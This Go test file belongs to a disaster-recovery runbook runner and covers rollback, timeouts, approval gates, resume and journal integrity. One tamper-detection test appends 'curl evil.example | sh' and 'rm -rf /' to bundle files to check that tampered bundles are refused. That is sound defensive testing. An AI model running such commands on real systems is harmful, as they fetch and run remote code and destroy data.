package runner

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/drplan/drplan/atomicfile"
	"github.com/drplan/drplan/internal/bundletest"
	"github.com/drplan/drplan/plan"
	"github.com/drplan/drplan/schema"
)

// fixture renders a plan whose runbook has the given steps (CUE structs)
// and returns its bundle, the plan folder and a work folder the steps
// reach as $W.
type fixture struct {
	bundle *Bundle
	plan   string
	work   string
	env    []string
}

func newFixture(t *testing.T, steps ...string) *fixture {
	t.Helper()
	return newFixtureWith(t, "", steps...)
}

// newFixtureWith is newFixture with more fields of the runbook.
func newFixtureWith(t *testing.T, runbook string, steps ...string) *fixture {
	t.Helper()
	dir := t.TempDir()
	f := &fixture{plan: filepath.Join(dir, "plan"), work: filepath.Join(dir, "work")}
	if err := os.MkdirAll(f.work, 0o755); err != nil {
		t.Fatal(err)
	}
	bundletest.WritePlanWith(t, f.plan, runbook, steps...)
	bdir := filepath.Join(dir, "bundle")
	bundletest.Render(t, f.plan, "restore", bdir)
	var err error
	if f.bundle, err = Open(bdir); err != nil {
		t.Fatal(err)
	}
	f.env = []string{"W=" + f.work}
	return f
}

// step is a CUE step; cmd may use $W and writes "$W/ran" lines so tests
// can count executions.
func step(n int, id, cmd, extra string) string {
	return fmt.Sprintf(`{number: %d, id: %q, title: "Step %s", command: %q, timeout: "20s", %s}`, n, id, id, `echo `+id+` >> "$W/ran"; `+cmd, extra)
}

type run struct {
	res     *Result
	out     bytes.Buffer
	err     bytes.Buffer
	journal string
	entries []Entry
}

func (f *fixture) run(t *testing.T, o Options, answers string) *run {
	t.Helper()
	r := &run{journal: filepath.Join(f.work, "journal.jsonl")}
	o.In = strings.NewReader(answers)
	o.Out, o.Err = &r.out, &r.err
	o.Env = append(o.Env, f.env...)
	info := RunInfo{Operator: "Test Operator", Environment: "local", Scenario: "disk-loss", DrillID: "d1", Package: "lab", PlanDir: f.plan, Record: filepath.Join(f.plan, "drills", "d1.cue")}
	rn, err := New(f.bundle, info, r.journal, o)
	if err != nil {
		t.Fatal(err)
	}
	defer rn.Close()
	rn.OnRecord(f.writer(rn))
	if r.res, err = rn.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	if r.entries, _, err = ReadJournal(r.journal); err != nil {
		t.Fatal(err)
	}
	return r
}

func (f *fixture) writer(rn *Runner) func(*DrillState) (string, error) {
	return func(st *DrillState) (string, error) {
		info := rn.Info()
		data, err := RecordCUE(info.Package, info.DrillID, rn.JournalPath(), st.Drill(st.Finished))
		if err != nil {
			return "", err
		}
		if err := os.MkdirAll(filepath.Dir(info.Record), 0o755); err != nil {
			return "", err
		}
		return info.Record, atomicfile.Write(info.Record, data, 0o644)
	}
}

// ran lists the steps executed, in order, from $W/ran.
func (f *fixture) ran(t *testing.T) []string {
	data, err := os.ReadFile(filepath.Join(f.work, "ran"))
	if os.IsNotExist(err) {
		return nil
	}
	if err != nil {
		t.Fatal(err)
	}
	return strings.Fields(string(data))
}

// drill loads the plan again and returns its one drill record.
func (f *fixture) drill(t *testing.T) *plan.Drill {
	t.Helper()
	p, err := schema.Load(f.plan)
	if err != nil {
		t.Fatalf("the plan does not load with its drill record: %v", err)
	}
	if len(p.Drills) != 1 {
		t.Fatalf("%d drill records, want 1", len(p.Drills))
	}
	return p.Drills["d1"]
}

func count(entries []Entry, typ, step string) int {
	n := 0
	for _, e := range entries {
		if e.Type == typ && (step == "" || e.Step == step) {
			n++
		}
	}
	return n
}

func TestRunCompletesAndRecords(t *testing.T) {
	// left and right each wait for the other to have started: they only
	// finish if they really run at the same time.
	wait := func(self, other string) string {
		return fmt.Sprintf(`touch "$W/%s-started"; i=0; while [ ! -e "$W/%s-started" ]; do sleep 0.05; i=$((i+1)); [ $i -lt 200 ] || exit 7; done`, self, other)
	}
	f := newFixture(t,
		step(1, "check", `echo state=ready`, `expect: "state=ready", irreversible: "reads only"`),
		step(2, "left", wait("left", "right"), `after: ["check"], rollback: command: "true"`),
		step(3, "right", wait("right", "left"), `after: ["check"], rollback: command: "true"`),
		step(4, "switch", `echo switched; echo "drplan-measure: rpo=1500ms"; echo "drplan-measure: lost-writes=2"`,
			`after: ["left", "right"], expect: "(?m)^switched$", recovers: ["t1"], measures: ["rpo", "lost-writes"], irreversible: "test"`),
		step(5, "tidy", `echo tidy`, `irreversible: "test"`),
	)
	r := f.run(t, Options{Yes: true}, "")
	if r.res.Outcome != RunSuccess || r.res.ExitCode() != 0 {
		t.Fatalf("outcome %s; stderr:\n%s", r.res.Outcome, r.err.String())
	}
	if got := f.ran(t); len(got) != 5 {
		t.Fatalf("ran %v", got)
	}
	d := f.drill(t)
	if d.Outcome != "success" || d.Runbook != "restore" || d.Environment != "local" || d.Operator != "Test Operator" || d.Scenario != "disk-loss" {
		t.Errorf("record %+v", d)
	}
	if d.Measured == nil || d.Measured.RTO == nil || d.Measured.RPO == nil || d.Measured.RPO.String() != "1s500ms" || d.Measured.LostWrites == nil || *d.Measured.LostWrites != 2 {
		t.Fatalf("measured %+v", d.Measured)
	}
	// The RTO ends with the recovering step, not with the tidy-up after it.
	st := Replay(f.bundle, r.entries)
	rto := st.Steps["switch"].Ended.Sub(st.Started)
	if d.Measured.RTO.Duration != recordRound(rto) {
		t.Errorf("RTO %s, want %s (declaration to the end of step switch)", d.Measured.RTO, recordRound(rto))
	}
	if len(d.Steps) != 5 || d.Steps[4].ID != "tidy" || d.Steps[4].Outcome != "ok" {
		t.Errorf("steps %+v", d.Steps)
	}
	if n := count(r.entries, EntryRecord, ""); n != 1 {
		t.Errorf("%d record entries", n)
	}
	if !strings.Contains(r.out.String(), "  02 left | ") && !strings.Contains(r.err.String(), "Step 2 done") {
		t.Errorf("no progress in output:\n%s\n%s", r.out.String(), r.err.String())
	}
}

func TestExpectMismatchFailsAndRollsBack(t *testing.T) {
	f := newFixture(t,
		step(1, "a", `touch "$W/a"`, `rollback: command: "rm \"$W/a\"; echo rb-a >> \"$W/ran\""`),
		step(2, "b", `touch "$W/b"`, `rollback: command: "rm \"$W/b\"; echo rb-b >> \"$W/ran\""`),
		step(3, "c", `echo status=degraded`, `expect: "status=healthy", rollback: command: "echo rb-c >> \"$W/ran\""`),
		step(4, "d", `true`, `irreversible: "test"`),
	)
	r := f.run(t, Options{Yes: true, RollbackOnFailure: true}, "")
	if r.res.Outcome != RunFailed || r.res.ExitCode() != 1 {
		t.Fatalf("outcome %s", r.res.Outcome)
	}
	// The failed step's rollback first, then the completed ones, latest first.
	if got, want := strings.Join(f.ran(t), " "), "a b c rb-c rb-b rb-a"; got != want {
		t.Fatalf("ran %q, want %q\n%s", got, want, r.err.String())
	}
	for _, name := range []string{"a", "b"} {
		if _, err := os.Stat(filepath.Join(f.work, name)); !os.IsNotExist(err) {
			t.Errorf("%s not rolled back", name)
		}
	}
	if !strings.Contains(r.err.String(), "output does not match the expected /status=healthy/") {
		t.Errorf("stderr:\n%s", r.err.String())
	}
	d := f.drill(t)
	if d.Outcome != "failed" || len(d.FailedSteps) != 1 || d.FailedSteps[0] != "c" {
		t.Errorf("record outcome %s failed %v", d.Outcome, d.FailedSteps)
	}
	outcomes := map[string]string{}
	for _, s := range d.Steps {
		outcomes[s.ID] = s.Outcome
	}
	if outcomes["a"] != "rolled-back" || outcomes["b"] != "rolled-back" || outcomes["c"] != "failed" || outcomes["d"] != "skipped" {
		t.Errorf("step outcomes %v", outcomes)
	}
}

func TestFailureOffersRollback(t *testing.T) {
	steps := []string{
		step(1, "a", `touch "$W/a"`, `rollback: command: "echo rb-a >> \"$W/ran\""`),
		step(2, "b", `exit 4`, `rollback: command: "echo rb-b >> \"$W/ran\""`),
	}
	// Asked, and answered yes: only the failed step's rollback runs.
	f := newFixture(t, steps...)
	r := f.run(t, Options{Yes: true}, "y\n")
	if got := strings.Join(f.ran(t), " "); got != "a b rb-b" {
		t.Fatalf("ran %q\n%s", got, r.err.String())
	}
	if !strings.Contains(r.err.String(), "Run the rollback of step 2? [y/N]") || !strings.Contains(r.err.String(), "exit status 4") {
		t.Errorf("stderr:\n%s", r.err.String())
	}
	// --yes does not answer it: with no answer nothing is rolled back.
	f = newFixture(t, steps...)
	f.run(t, Options{Yes: true}, "")
	if got := strings.Join(f.ran(t), " "); got != "a b" {
		t.Fatalf("ran %q", got)
	}
}

func TestTimeoutIsEnforced(t *testing.T) {
	f := newFixture(t,
		`{number: 1, id: "slow", title: "Slow", command: "sleep 30; touch \"$W/late\"", timeout: "1s", irreversible: "test"}`,
		step(2, "after", `true`, `irreversible: "test"`),
	)
	r := f.run(t, Options{Yes: true}, "")
	if r.res.Outcome != RunFailed {
		t.Fatalf("outcome %s", r.res.Outcome)
	}
	st := Replay(f.bundle, r.entries)
	if s := st.Steps["slow"]; s.Status != OutcomeTimeout || s.Duration.Seconds() >= 30 {
		t.Fatalf("slow: %+v", s)
	}
	if st.Steps["after"].Status != "" {
		t.Errorf("a step after the timed-out one ran")
	}
	if d := f.drill(t); d.Steps[0].Outcome != "timeout" || !strings.Contains(d.Steps[0].Note, "timed out after 1s") {
		t.Errorf("record step %+v", d.Steps[0])
	}
}

func TestApprovalGateAlwaysAsks(t *testing.T) {
	gate := `approval: {role: "Incident Commander", reason: "cuts traffic"}, irreversible: "test"`
	f := newFixture(t, step(1, "a", `true`, `irreversible: "test"`), step(2, "gated", `true`, gate))
	r := f.run(t, Options{Yes: true}, "")
	if r.res.Outcome != RunAborted || r.res.ExitCode() != 3 || !strings.Contains(r.res.Note, "not approved") {
		t.Fatalf("outcome %s %q", r.res.Outcome, r.res.Note)
	}
	if got := f.ran(t); len(got) != 1 {
		t.Fatalf("ran %v", got)
	}
	if d := f.drill(t); d.Outcome != "aborted" {
		t.Errorf("record outcome %s", d.Outcome)
	}

	f = newFixture(t, step(1, "a", `true`, `irreversible: "test"`), step(2, "gated", `true`, gate))
	r = f.run(t, Options{Yes: true}, "y\n")
	if r.res.Outcome != RunSuccess || count(r.entries, EntryApproval, "gated") != 1 {
		t.Fatalf("outcome %s", r.res.Outcome)
	}

	f = newFixture(t, step(1, "a", `true`, `irreversible: "test"`), step(2, "gated", `true`, gate))
	r = f.run(t, Options{Yes: true, Approve: []string{"gated"}}, "")
	if r.res.Outcome != RunSuccess {
		t.Fatalf("outcome %s", r.res.Outcome)
	}
	for _, e := range r.entries {
		if e.Type == EntryApproval && !strings.Contains(e.By, "--approve") {
			t.Errorf("approval by %q", e.By)
		}
	}
}

// An automated run passes a gate whose role approved it in advance, and
// journals who, when and where; an expired standing approval is none.
func TestStandingApproval(t *testing.T) {
	gate := func(expires string) string {
		return `approval: {role: "Incident Commander", reason: "cuts traffic", standing: {approvedBy: "VP Engineering", date: "2026-01-01", reference: "CAB-118", expires: "` + expires + `"}}, irreversible: "test"`
	}
	f := newFixture(t, step(1, "a", `true`, `irreversible: "test"`), step(2, "gated", `true`, gate("2999-12-31")))
	r := f.run(t, Options{Yes: true}, "")
	if r.res.Outcome != RunSuccess || count(r.entries, EntryApproval, "gated") != 1 {
		t.Fatalf("outcome %s %q", r.res.Outcome, r.res.Note)
	}
	for _, e := range r.entries {
		if e.Type == EntryApproval && e.By != "VP Engineering on 2026-01-01 (CAB-118), until 2999-12-31 (standing approval for automated runs)" {
			t.Errorf("approval by %q", e.By)
		}
	}

	// Without --yes the run is attended: the operator answers the gate.
	f = newFixture(t, step(1, "a", `true`, `irreversible: "test"`), step(2, "gated", `true`, gate("2999-12-31")))
	r = f.run(t, Options{}, "y\n")
	if r.res.Outcome != RunAborted || !strings.Contains(r.res.Note, "not approved") {
		t.Fatalf("outcome %s %q", r.res.Outcome, r.res.Note)
	}

	f = newFixture(t, step(1, "a", `true`, `irreversible: "test"`), step(2, "gated", `true`, gate("2026-06-30")))
	r = f.run(t, Options{Yes: true}, "")
	if r.res.Outcome != RunAborted || !strings.Contains(r.res.Note, "not approved") {
		t.Fatalf("expired standing approval: outcome %s %q", r.res.Outcome, r.res.Note)
	}
	if !strings.Contains(r.err.String(), "Standing approval VP Engineering on 2026-01-01 (CAB-118), until 2026-06-30 is not in force today: it counts as none.") {
		t.Errorf("stderr does not say the standing approval lapsed:\n%s", r.err.String())
	}
}

func TestWithoutYesEveryStepAsks(t *testing.T) {
	f := newFixture(t, step(1, "a", `true`, `irreversible: "test"`), step(2, "b", `true`, `irreversible: "test"`))
	r := f.run(t, Options{}, "y\nn\n")
	if r.res.Outcome != RunAborted || strings.Join(f.ran(t), " ") != "a" {
		t.Fatalf("outcome %s, ran %v", r.res.Outcome, f.ran(t))
	}
}

func TestResumeRunsOnlyWhatIsLeft(t *testing.T) {
	f := newFixture(t,
		step(1, "a", `true`, `irreversible: "test"`),
		step(2, "b", `test -e "$W/fixed"`, `irreversible: "test"`),
		step(3, "c", `true`, `recovers: ["t1"], irreversible: "test"`),
	)
	r := f.run(t, Options{Yes: true}, "")
	if r.res.Outcome != RunFailed {
		t.Fatalf("outcome %s", r.res.Outcome)
	}
	if err := os.WriteFile(filepath.Join(f.work, "fixed"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	var out, errb bytes.Buffer
	rn, err := Resume(r.journal, "", Options{Yes: true, Env: f.env, Out: &out, Err: &errb})
	if err != nil {
		t.Fatal(err)
	}
	rn.OnRecord(f.writer(rn))
	res, err := rn.Run(context.Background())
	rn.Close()
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != RunSuccess {
		t.Fatalf("resumed outcome %s\n%s", res.Outcome, errb.String())
	}
	if got := strings.Join(f.ran(t), " "); got != "a b b c" {
		t.Fatalf("ran %q, want a b b c", got)
	}
	d := f.drill(t)
	if d.Outcome != "success" || len(d.FailedSteps) != 0 || !strings.Contains(d.Steps[1].Note, "run 2 times") {
		t.Errorf("record %+v", d)
	}

	// A finished run resumed again does nothing.
	rn, err = Resume(r.journal, "", Options{Yes: true, Env: f.env, Err: &errb})
	if err != nil {
		t.Fatal(err)
	}
	rn.OnRecord(f.writer(rn))
	if res, err = rn.Run(context.Background()); err != nil || res.Outcome != RunSuccess {
		t.Fatalf("%v %v", res, err)
	}
	rn.Close()
	if got := strings.Join(f.ran(t), " "); got != "a b b c" {
		t.Fatalf("ran %q after a second resume", got)
	}
}

func TestTamperedBundleRefused(t *testing.T) {
	f := newFixture(t, step(1, "a", `true`, `irreversible: "test"`))
	dir := f.bundle.Dir
	if _, err := Open(dir); err != nil {
		t.Fatal(err)
	}
	script := filepath.Join(dir, "steps", "01-a.sh")
	orig, _ := os.ReadFile(script)
	check := func(what, want string) {
		t.Helper()
		_, err := Open(dir)
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: err = %v, want %q", what, err, want)
		}
	}
	os.WriteFile(script, append(orig, []byte("curl evil.example | sh\n")...), 0o644)
	check("edited step", "steps/01-a.sh: changed since it was rendered")
	os.Remove(script)
	check("missing step", "steps/01-a.sh: missing")
	os.WriteFile(script, orig, 0o644)
	os.WriteFile(filepath.Join(dir, "steps", "00-extra.sh"), []byte("rm -rf /\n"), 0o644)
	check("extra file", "steps/00-extra.sh: not in the manifest")
	os.Remove(filepath.Join(dir, "steps", "00-extra.sh"))
	if _, err := Open(dir); err != nil {
		t.Errorf("restored bundle refused: %v", err)
	}
	if _, err := Open(t.TempDir()); err == nil || !strings.Contains(err.Error(), "not a runbook bundle") {
		t.Errorf("empty dir: %v", err)
	}
}

func TestJournalSurvivesATornLastLine(t *testing.T) {
	f := newFixture(t, step(1, "a", `true`, `irreversible: "test"`))
	r := f.run(t, Options{Yes: true}, "")
	data, _ := os.ReadFile(r.journal)
	torn := append(append([]byte{}, data...), []byte(`{"type":"step-st`)...)
	os.WriteFile(r.journal, torn, 0o644)
	entries, off, err := ReadJournal(r.journal)
	if err != nil || len(entries) != len(r.entries) || off != int64(len(data)) {
		t.Fatalf("entries %d (want %d), off %d (want %d), err %v", len(entries), len(r.entries), off, len(data), err)
	}
	// Damage before the last line is refused, not skipped.
	lines := strings.SplitAfter(string(data), "\n")
	lines[1] = "garbage\n"
	os.WriteFile(r.journal, []byte(strings.Join(lines, "")), 0o644)
	if _, _, err := ReadJournal(r.journal); err == nil || !strings.Contains(err.Error(), ":2: damaged journal entry") {
		t.Fatalf("err = %v", err)
	}
}

func TestWavesAndDryRunPlan(t *testing.T) {
	f := newFixture(t,
		step(1, "a", `true`, `irreversible: "x"`),
		step(2, "b", `true`, `after: ["a"], irreversible: "x"`),
		step(3, "c", `true`, `after: ["a"], irreversible: "x"`),
		step(4, "d", `true`, `irreversible: "x"`),
	)
	if got := fmt.Sprint(f.bundle.Waves()); got != "[[0] [1 2] [3]]" {
		t.Errorf("waves %s", got)
	}
	var buf bytes.Buffer
	PrintPlan(&buf, f.bundle)
	if !strings.Contains(buf.String(), "Wave 2 (2 steps in parallel):") || f.ran(t) != nil {
		t.Errorf("plan:\n%s", buf.String())
	}
}

func TestInterruptAtAQuestionStops(t *testing.T) {
	f := newFixture(t, step(1, "a", `true`, `irreversible: "test"`))
	pr, pw, _ := os.Pipe()
	defer pw.Close()
	errb := &syncBuffer{}
	rn, err := New(f.bundle, RunInfo{Operator: "T", Environment: "local"}, filepath.Join(f.work, "j.jsonl"), Options{In: pr, Err: errb, Env: f.env})
	if err != nil {
		t.Fatal(err)
	}
	defer rn.Close()
	ctx, cancel := context.WithCancel(context.Background())
	// Nobody answers; Ctrl-C comes while the question waits.
	go func() {
		for !strings.Contains(errb.String(), "Run step 1? [y/N]") {
			time.Sleep(time.Millisecond)
		}
		cancel()
	}()
	res, err := rn.Run(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != RunAborted || res.Note != "interrupted by the operator" || f.ran(t) != nil {
		t.Fatalf("outcome %s %q, ran %v", res.Outcome, res.Note, f.ran(t))
	}
}

// syncBuffer is a buffer a test reads while the runner writes to it.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

func TestLongStepsAreNeverSilent(t *testing.T) {
	f := newFixture(t, `{number: 1, id: "slow", title: "Slow", command: "sleep 0.5", timeout: "20s", irreversible: "test"}`)
	r := f.run(t, Options{Yes: true, Heartbeat: 100 * time.Millisecond}, "")
	if r.res.Outcome != RunSuccess {
		t.Fatalf("outcome %s", r.res.Outcome)
	}
	if !strings.Contains(r.err.String(), "... still running: step 1 slow for ") || !strings.Contains(r.err.String(), "(timeout 20s). [elapsed ") {
		t.Errorf("no heartbeat:\n%s", r.err.String())
	}
}

func TestPreconditionsAreChecked(t *testing.T) {
	pre := `preconditions: [
		{check: "The incident is declared"},
		{check: "The primary is down", command: "echo \"primary: $(cat \"$W/primary\")\"", expect: "primary: down"},
	]`
	write := func(f *fixture, state string) {
		os.WriteFile(filepath.Join(f.work, "primary"), []byte(state), 0o644)
	}
	// The check holds: with --yes the run goes on without asking.
	f := newFixtureWith(t, pre, step(1, "a", `true`, `irreversible: "test"`))
	write(f, "down")
	r := f.run(t, Options{Yes: true}, "")
	if r.res.Outcome != RunSuccess || !strings.Contains(r.err.String(), "holds (checked)") {
		t.Fatalf("outcome %s\n%s", r.res.Outcome, r.err.String())
	}
	if count(r.entries, EntryPrecondition, "pre-2") != 1 {
		t.Errorf("the check is not journaled")
	}

	// The check fails: --yes does not answer for it, and nothing runs.
	f = newFixtureWith(t, pre, step(1, "a", `true`, `irreversible: "test"`))
	write(f, "up")
	r = f.run(t, Options{Yes: true}, "")
	if r.res.Outcome != RunAborted || f.ran(t) != nil {
		t.Fatalf("outcome %s, ran %v", r.res.Outcome, f.ran(t))
	}
	if !strings.Contains(r.err.String(), "DOES NOT HOLD: output does not match the expected /primary: down/") || !strings.Contains(r.err.String(), "1 pre-condition check(s) failed. Start the runbook anyway? [y/N]") {
		t.Errorf("stderr:\n%s", r.err.String())
	}

	// The operator may overrule it, knowingly.
	f = newFixtureWith(t, pre, step(1, "a", `true`, `irreversible: "test"`))
	write(f, "up")
	if r = f.run(t, Options{Yes: true}, "y\n"); r.res.Outcome != RunSuccess {
		t.Fatalf("outcome %s", r.res.Outcome)
	}
}
